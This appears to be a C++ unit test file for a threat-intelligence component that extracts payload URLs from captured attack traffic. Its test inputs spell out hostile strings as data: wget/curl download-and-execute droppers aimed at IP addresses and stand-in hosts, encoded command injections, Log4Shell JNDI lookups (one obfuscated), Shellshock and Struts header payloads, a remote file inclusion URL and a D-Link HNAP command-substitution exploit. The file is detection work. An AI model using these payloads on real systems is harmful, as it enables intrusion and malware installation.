// Unit tests for payload URL extraction (src/intel/payload_urls.h).
#include "intel/payload_urls.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace drosera::intel {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;

TEST(PayloadUrlsTest, ShellDropper) {
  EXPECT_THAT(findPayloadUrls("cd /tmp; wget http://45.33.32.156/bins/x86.sh; chmod +x x86.sh", 10),
              ElementsAre("http://45.33.32.156/bins/x86.sh"));
  EXPECT_THAT(findPayloadUrls("curl -s https://Evil.EXAMPLE.net:8443/a.sh|sh", 10),
              ElementsAre("https://evil.example.net:8443/a.sh"));
}

TEST(PayloadUrlsTest, EncodedPayloadsAreDecoded) {
  EXPECT_THAT(findPayloadUrls("/cgi-bin/x?cmd=wget%20http%3A%2F%2F45.33.32.156%2Fx.sh%3Bsh", 10),
              ElementsAre("http://45.33.32.156/x.sh"));
  EXPECT_THAT(findPayloadUrls("?c=wget%2520http%253A%252F%252Fdl.example.com%252Fm", 10),
              ElementsAre("http://dl.example.com/m"));
  EXPECT_THAT(findPayloadUrls("c=wget+http://dl.example.com/a+b", 10, UrlSource::kForm),
              ElementsAre("http://dl.example.com/a"));
}

TEST(PayloadUrlsTest, JndiAndRfi) {
  EXPECT_THAT(findPayloadUrls("${jndi:ldap://45.33.32.156:1389/Exploit}", 10),
              ElementsAre("ldap://45.33.32.156:1389/Exploit"));
  EXPECT_THAT(findPayloadUrls("/index.php?page=http://rfi.example.org/shell.txt?", 10),
              ElementsAre("http://rfi.example.org/shell.txt?"));
}

TEST(PayloadUrlsTest, NotUrls) {
  EXPECT_THAT(findPayloadUrls("http://localhost/x http://a/ http:// xhttpx://a.b.cc/", 10),
              IsEmpty());
  EXPECT_THAT(findPayloadUrls("gopher://a.example.com/x", 10), IsEmpty());
  EXPECT_THAT(findPayloadUrls("http://1.2.3.999/x", 10), IsEmpty());
  EXPECT_THAT(findPayloadUrls("http://a.example.com:99999/x", 10), IsEmpty());
}

TEST(PayloadUrlsTest, CredentialsInTheUrlAreDropped) {
  EXPECT_THAT(findPayloadUrls("ftp://anon:secret@ftp.example.com/pub/x", 10),
              ElementsAre("ftp://ftp.example.com/pub/x"));
}

TEST(PayloadUrlsTest, AbsoluteFormTargetIsNotAPayload) {
  EXPECT_THAT(findPayloadUrls("http://proxy.example.com/", 10, UrlSource::kRequestTarget),
              IsEmpty());
  EXPECT_THAT(findPayloadUrls("http://p.example.com/?u=http://x.example.com/a", 10,
                              UrlSource::kRequestTarget),
              ElementsAre("http://x.example.com/a"));
}

TEST(PayloadUrlsTest, BoundedAndDistinct) {
  std::string many;
  for (int i = 0; i < 50; ++i) many += " wget http://h" + std::to_string(i) + ".example.com/x;";
  many += " wget http://h0.example.com/x;";
  auto urls = findPayloadUrls(many, 5);
  EXPECT_EQ(urls.size(), 5u);
  EXPECT_EQ(findPayloadUrls(many, 100).size(), 50u);
}

TEST(PayloadUrlsTest, NonPrintableBytesAreEncoded) {
  EXPECT_THAT(findPayloadUrls(std::string("wget http://dl.example.com/a\xFF\x01"), 10),
              ElementsAre("http://dl.example.com/a%FF"));
  EXPECT_THAT(findPayloadUrls("wget http://[2001:DB8::1]/x", 10),
              ElementsAre("http://[2001:db8::1]/x"));
}

// '+' is a space only where the application form-decodes (a query, a form body), and only in
// its one decoding: the dropper fetched "x86+arm.sh", not "x86".
TEST(PayloadUrlsTest, APlusIsASpaceOnlyInTheFormDecodingItself) {
  const char* kDelivered = "http://45.61.185.23/x86+arm.sh";
  EXPECT_THAT(findPayloadUrls("/cgi-bin/x?cmd=wget%20http://45.61.185.23/x86%2Barm.sh", 10,
                              UrlSource::kRequestTarget),
              ElementsAre(kDelivered));
  EXPECT_THAT(findPayloadUrls("cmd=wget+http://45.61.185.23/x86%2Barm.sh", 10, UrlSource::kForm),
              ElementsAre(kDelivered));
  EXPECT_THAT(
      findPayloadUrls("cmd=wget%2520http://45.61.185.23/x86%252Barm.sh", 10, UrlSource::kForm),
      ElementsAre(kDelivered));
  EXPECT_THAT(findPayloadUrls("{\"c\": \"wget http://45.61.185.23/x86+arm.sh\"}", 10),
              ElementsAre(kDelivered));
  // In a path '+' is a plus; in the query after it, a space.
  EXPECT_THAT(findPayloadUrls("/x/http://45.61.185.23/x86+arm.sh", 10, UrlSource::kRequestTarget),
              ElementsAre(kDelivered));
  EXPECT_THAT(
      findPayloadUrls("/a+b?c=wget+http://dl.example.com/a+b", 10, UrlSource::kRequestTarget),
      ElementsAre("http://dl.example.com/a"));
}

TEST(PayloadUrlsTest, AnIpv4MappedHostIsPlainIpv4) {
  EXPECT_THAT(findPayloadUrls("${jndi:ldap://[::ffff:45.61.185.23]:1389/a}", 10),
              ElementsAre("ldap://45.61.185.23:1389/a"));
  EXPECT_THAT(findPayloadUrls("wget http://[::FFFF:2d3d:b917]/x", 10),
              ElementsAre("http://45.61.185.23/x"));
  EXPECT_THAT(findPayloadUrls("wget http://[2a02:C207::0:1]:8080/x", 10),
              ElementsAre("http://[2a02:c207::1]:8080/x"));
}

TEST(PayloadUrlsTest, HeaderPayloadStartsAtACommandOrLookup) {
  EXPECT_EQ(headerPayloadStart(
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
            std::string_view::npos);
  EXPECT_EQ(headerPayloadStart("https://www.google.com/search?q=shop"), std::string_view::npos);
  EXPECT_EQ(headerPayloadStart("Mozilla/5.0 () x"), std::string_view::npos);
  EXPECT_EQ(headerPayloadStart("() { :; }; /bin/bash -c 'wget http://a.example.com/x'"), 0u);
  EXPECT_EQ(headerPayloadStart("x(){ :;}; wget http://a.example.com/x"), 1u);
  EXPECT_EQ(headerPayloadStart("() \t{ :; };"), 0u);
  EXPECT_EQ(headerPayloadStart("Mozilla ${jndi:ldap://a.example.com/x}"), 8u);
  EXPECT_EQ(headerPayloadStart("${${lower:j}ndi:ldap://a.example.com/x} () {"), 0u);
  EXPECT_EQ(headerPayloadStart("%{(#_='multipart/form-data')}"), 0u);
  // Command substitution (the D-Link HNAP SOAPAction exploit).
  EXPECT_EQ(
      headerPayloadStart("http://purenetworks.com/HNAP1/`cd /tmp && wget http://1.2.3.4/x.sh`"),
      30u);
  EXPECT_EQ(headerPayloadStart("a $(wget http://1.2.3.4/y -O- | sh)"), 2u);
}

TEST(PayloadUrlsTest, PercentDecode) {
  EXPECT_EQ(percentDecode("a%2Fb%zz+c%", true), "a/b%zz c%");
  EXPECT_EQ(percentDecode("a+b", false), "a+b");
}

}  // namespace
}  // namespace drosera::intel
